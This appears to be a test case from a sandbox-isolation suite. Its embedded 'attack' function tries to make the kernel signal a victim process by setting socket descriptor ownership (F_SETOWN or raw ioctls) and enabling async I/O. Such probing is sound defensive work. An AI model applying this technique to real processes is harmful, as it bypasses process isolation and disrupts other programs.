"""Has the kernel send a signal for it, as owner of a descriptor."""

GOES_FOR = "signals"
SOURCE = """
import fcntl, os, signal, socket, struct

def attack(facts):
    one, other = socket.socketpair()
    flags = fcntl.fcntl(one, fcntl.F_GETFL)
    pid = struct.pack("i", facts["victim"])
    def by_fcntl():
        fcntl.fcntl(one, fcntl.F_SETOWN, facts["victim"])
    def by_ioctl():
        fcntl.ioctl(one, 0x8901, pid)
    told = tried(fcntl=by_fcntl, ioctl=by_ioctl, group=lambda: fcntl.ioctl(one, 0x8902, pid))
    fcntl.fcntl(one, fcntl.F_SETFL, flags | os.O_ASYNC)
    other.send(b"x")
    return told
"""
